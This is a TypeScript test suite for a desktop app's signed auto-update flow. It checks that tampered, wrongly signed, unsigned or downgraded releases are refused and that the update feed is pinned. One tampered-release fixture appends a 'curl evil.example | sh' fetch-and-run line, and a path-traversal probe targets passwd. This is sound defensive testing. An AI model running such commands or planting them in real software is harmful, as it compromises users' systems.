// electron-updater's own updaters (AppImageUpdater, NsisUpdater) driven by the app's update
// controller against feeds on 127.0.0.1: the real provider, version check, download, sha512
// check, the app's signature check and, for an accepted AppImage, the real install. Only
// Electron's HTTP stack and app object are Node's, and PowerShell's Get-AuthenticodeSignature
// is a stand-in that reads the signer from the file (the app's check around it is real).
import crypto from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { AppImageUpdater, NsisUpdater } from 'electron-updater';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { authenticodeCheck } from '../../desktop/main/authenticode';
import { buildUpdateFeed } from '../../desktop/main/update-feed';
import { updateGate, type UpdateGateInputs } from '../../desktop/main/update-gate';
import { UpdateController, type UpdaterLike } from '../../desktop/main/updates';
import { useTestServer } from '../support/use-test-server';
import { exists, nodeUpdater, publish, standInPowerShell, startLocalFeed, stateLog, type LocalFeed, type Release } from './updates-fixture';

const publisher = crypto.generateKeyPairSync('ed25519');
const stranger = crypto.generateKeyPairSync('ed25519');
const linux: UpdateGateInputs = { platform: 'linux', publicKey: publisher.publicKey, publisher: null, codeSignature: null, linuxPackage: 'AppImage' };

let work: string;
let buildFeed: LocalFeed;
let chosenServer: LocalFeed;
const cleanup: string[] = [];

beforeAll(async () => {
  work = await fs.mkdtemp(path.join(os.tmpdir(), 'teamtree-update-flow-'));
  buildFeed = await startLocalFeed();
  chosenServer = await startLocalFeed();
});
afterEach(async () => {
  delete process.env.APPIMAGE;
  for (const dir of cleanup.splice(0)) await fs.rm(dir, { recursive: true, force: true });
  for (const feed of [buildFeed, chosenServer]) {
    feed.requests.length = 0;
    for (const file of await fs.readdir(feed.dir)) await fs.rm(path.join(feed.dir, file));
  }
});
afterAll(async () => {
  await buildFeed.close();
  await chosenServer.close();
  await fs.rm(work, { recursive: true, force: true });
});

/** An AppImage release whose installer, once run by the install, leaves a mark. */
function appImage(version: string, key: crypto.KeyObject | null = publisher.privateKey): Release & { mark: string } {
  const mark = path.join(work, `installed-${crypto.randomUUID()}`);
  const bytes = Buffer.from(`#!/bin/sh\necho "TeamTree ${version}" > '${mark}'\n`);
  return { version, name: `TeamTree-${version}-x86_64.AppImage`, bytes, key, mark };
}

/** The running AppImage 1.2.0 (APPIMAGE, as the AppImage runtime sets it) and its updater. */
async function runningAppImage() {
  const current = path.join(work, `TeamTree-${crypto.randomUUID()}`, 'TeamTree.AppImage');
  await fs.mkdir(path.dirname(current));
  await fs.writeFile(current, 'the running 1.2.0');
  process.env.APPIMAGE = current;
  const { updater, userData } = await nodeUpdater(AppImageUpdater, '1.2.0');
  cleanup.push(userData, path.dirname(current));
  return { updater, current };
}

function control(updater: AppImageUpdater | NsisUpdater, feed: string | null, gate = updateGate(linux)) {
  const log = stateLog();
  const controller = new UpdateController(updater as unknown as UpdaterLike, {
    feed,
    runningVersion: updater.currentVersion.version,
    gate,
    every: () => () => undefined,
    onState: log.onState,
    log: () => undefined,
  });
  const downloaded = new Promise<string>((resolve) => updater.on('update-downloaded', (event) => resolve(event.downloadedFile)));
  return { controller, log, downloaded };
}

describe('a Linux update checked against the key built into the app', () => {
  it('is installed when correctly signed: the AppImage is replaced by the new one, which runs', async () => {
    const release = appImage('1.3.0');
    await publish(buildFeed.dir, release);
    const { updater, current } = await runningAppImage();
    const { controller, log } = control(updater, buildFeed.url);
    const settled = log.next('ready', 'error');
    await controller.check();
    expect(await settled).toEqual({ status: 'ready', version: '1.3.0' });
    expect(buildFeed.requests).toContain(`/updates/${release.name}.sig`);
    expect(controller.installOnQuit()).toBe(true);
    expect(await fs.readFile(current)).toEqual(release.bytes);
    expect(await fs.readFile(release.mark, 'utf8')).toBe('TeamTree 1.3.0\n');
  });

  const refusals: Array<[string, (release: Release) => Release]> = [
    ['changed after signing (the manifest’s sha512 matching the changed file)', (r) => ({ ...r, signed: r.bytes, bytes: Buffer.concat([r.bytes, Buffer.from('curl evil.example | sh\n')]) })],
    ['signed by another key', (r) => ({ ...r, key: stranger.privateKey })],
    ['without a signature in the feed', (r) => ({ ...r, key: null })],
    // Issue 33: the signature names the version and the file, so an older signed build cannot pass as this release.
    ['signed over the bytes only (the format that let an older build pass as new)', (r) => ({ ...r, bytesOnly: true })],
    ['signed as an older version (an older build announced as 1.3.0)', (r) => ({ ...r, signedVersion: '1.1.0' })],
    ['signed for another file name (renamed in the feed)', (r) => ({ ...r, signedName: 'TeamTree-1.1.0-x86_64.AppImage' })],
  ];
  for (const [what, change] of refusals) {
    it(`is refused ${what}: deleted, never installed`, async () => {
      const release = change(appImage('1.3.0'));
      await publish(buildFeed.dir, release);
      const { updater, current } = await runningAppImage();
      const { controller, log, downloaded } = control(updater, buildFeed.url);
      const settled = log.next('ready', 'error');
      await controller.check();
      expect((await settled).status).toBe('error');
      expect(await exists(await downloaded)).toBe(false);
      expect(controller.restart()).toBe(false);
      expect(controller.installOnQuit()).toBe(false);
      expect(await fs.readFile(current, 'utf8')).toBe('the running 1.2.0');
    });
  }

  // allowDowngrade: what electron-updater's `channel` setter turns on; the app's own check does not depend on it.
  // electron-updater answers 'not available' itself unless downgrades are allowed; then the app refuses ('error').
  it.each([
    ['older', '1.1.0', false, 'idle'],
    ['older', '1.1.0', true, 'error'],
    ['equal', '1.2.0', true, 'idle'],
  ] as const)('is refused when %s (%s) than the running 1.2.0, correctly signed (allowDowngrade %s): never downloaded', async (_what, version, allowDowngrade, status) => {
    const release = appImage(version);
    await publish(buildFeed.dir, release);
    const { updater, current } = await runningAppImage();
    const { controller, log } = control(updater, buildFeed.url);
    updater.allowDowngrade = allowDowngrade;
    const settled = log.next('idle', 'error', 'ready', 'downloading');
    await controller.check();
    expect((await settled).status).toBe(status);
    expect(buildFeed.requests).not.toContain(`/updates/${release.name}`);
    expect(controller.installOnQuit()).toBe(false);
    expect(await fs.readFile(current, 'utf8')).toBe('the running 1.2.0');
  });

  it("without a key built in, is only offered as a download link to the feed's file, never downloaded", async () => {
    await publish(buildFeed.dir, appImage('1.3.0'));
    const { updater } = await runningAppImage();
    const { controller, log } = control(updater, buildFeed.url, updateGate({ ...linux, publicKey: null }));
    const settled = log.next('available', 'downloading', 'error');
    await controller.check();
    expect(await settled).toEqual({ status: 'available', version: '1.3.0', url: `${buildFeed.url}TeamTree-1.3.0-x86_64.AppImage` });
    expect(buildFeed.requests).toEqual(['/updates/latest-linux.yml']);
  });
});

describe('the feed is the build’s, never the chosen server’s', () => {
  it('without MAIN_VITE_UPDATE_URL nothing is asked of any server, even one offering a correctly signed update', async () => {
    await publish(chosenServer.dir, appImage('9.0.0'));
    const { updater } = await runningAppImage();
    const { controller } = control(updater, buildUpdateFeed(undefined));
    controller.start();
    await controller.check();
    expect(controller.state()).toEqual({ status: 'unsupported' });
    expect(chosenServer.requests).toEqual([]);
  });

  it('with MAIN_VITE_UPDATE_URL only that feed is asked, whatever the chosen server offers', async () => {
    await publish(buildFeed.dir, appImage('1.3.0'));
    await publish(chosenServer.dir, appImage('9.0.0'));
    const { updater } = await runningAppImage();
    const { controller, log } = control(updater, buildUpdateFeed(buildFeed.url));
    const settled = log.next('ready', 'error');
    await controller.check();
    expect(await settled).toEqual({ status: 'ready', version: '1.3.0' });
    expect(chosenServer.requests).toEqual([]);
  });
});

describe('a Windows update checked against the publisher the build pins', () => {
  /** An installer whose Authenticode signer (the stand-in's answer) is `subject`. */
  async function windowsUpdate(subject: string, version = '1.3.0') {
    const bytes = Buffer.from(`${subject}\nMZ installer ${crypto.randomUUID()}`);
    // electron-updater names the manifest after the OS it runs on (latest.yml on Windows, here latest-linux.yml).
    await publish(buildFeed.dir, { version, name: `TeamTree-Setup-${version}-x64.exe`, bytes, key: null });
    // An unsigned build's app-update.yml names no publisher: NsisUpdater then checks nothing itself.
    const { updater, userData } = await nodeUpdater(NsisUpdater, '1.2.0');
    cleanup.push(userData);
    // As the app wires it: the fail-closed Authenticode check, over a PowerShell stand-in.
    const check = authenticodeCheck(standInPowerShell);
    updater.verifyUpdateCodeSignature = check;
    const gate = updateGate({ ...linux, platform: 'win32', publisher: 'TeamTree Ltd', codeSignature: check });
    return { ...control(updater, buildFeed.url, gate), updater };
  }

  it('is refused when signed by someone else, even where NsisUpdater itself checks nothing', async () => {
    const { controller, log, downloaded } = await windowsUpdate('CN=Mallory Inc, O=Mallory Inc, C=US');
    const settled = log.next('ready', 'error');
    await controller.check();
    expect((await settled).status).toBe('error');
    expect(await exists(await downloaded)).toBe(false);
    expect(controller.restart()).toBe(false);
  });

  it('is refused when older than the running app, even signed by the pinned publisher and with downgrades allowed', async () => {
    const { controller, log, updater } = await windowsUpdate('CN=TeamTree Ltd, O=TeamTree Ltd, L=Berlin, C=DE', '1.1.0');
    updater.allowDowngrade = true;
    const settled = log.next('idle', 'error', 'ready', 'downloading');
    await controller.check();
    expect(await settled).toEqual({ status: 'error', message: 'The update was refused: it is not newer than this version.' });
    expect(buildFeed.requests).not.toContain('/updates/TeamTree-Setup-1.1.0-x64.exe');
    expect(controller.restart()).toBe(false);
  });

  it("is offered ('Restart to update') when signed by the pinned publisher", async () => {
    const { controller, log } = await windowsUpdate('CN=TeamTree Ltd, O=TeamTree Ltd, L=Berlin, C=DE');
    const settled = log.next('ready', 'error');
    await controller.check();
    expect(await settled).toEqual({ status: 'ready', version: '1.3.0' });
  });
});

// The API server's /updates/ (UPDATES_DIR) is one place to host the build's feed.
const hostedDir = await fs.mkdtemp(path.join(os.tmpdir(), 'teamtree-hosted-feed-'));
const backend = useTestServer({ UPDATES_DIR: hostedDir });
afterAll(() => fs.rm(hostedDir, { recursive: true, force: true }));

describe('the API server’s /updates/ hosting the build’s feed', () => {
  it('serves the manifest, installer and signature the app checks and installs', async () => {
    const release = appImage('1.3.0');
    await publish(hostedDir, release);
    const { updater } = await runningAppImage();
    const { controller, log } = control(updater, buildUpdateFeed(`${backend.url}/updates/`));
    const settled = log.next('ready', 'error');
    await controller.check();
    expect(await settled).toEqual({ status: 'ready', version: '1.3.0' });
  });

  it('serves the feed files (manifests never cached) and answers 404 for anything else under /updates/', async () => {
    const manifest = await fetch(`${backend.url}/updates/latest-linux.yml`);
    expect(manifest.status).toBe(200);
    expect(manifest.headers.get('cache-control')).toBe('no-cache');
    expect(await manifest.text()).toContain('version: 1.3.0');
    expect((await fetch(`${backend.url}/updates/TeamTree-1.3.0-x86_64.AppImage.sig`)).status).toBe(200);
    for (const bad of ['/updates/', '/updates/missing.yml', '/updates/..%2Fpasswd', '/updates/.hidden']) {
      const res = await fetch(`${backend.url}${bad}`);
      expect(res.status).toBe(404);
      expect(await res.json()).toEqual({ error: expect.any(String), code: 'not-found' });
    }
  });
});
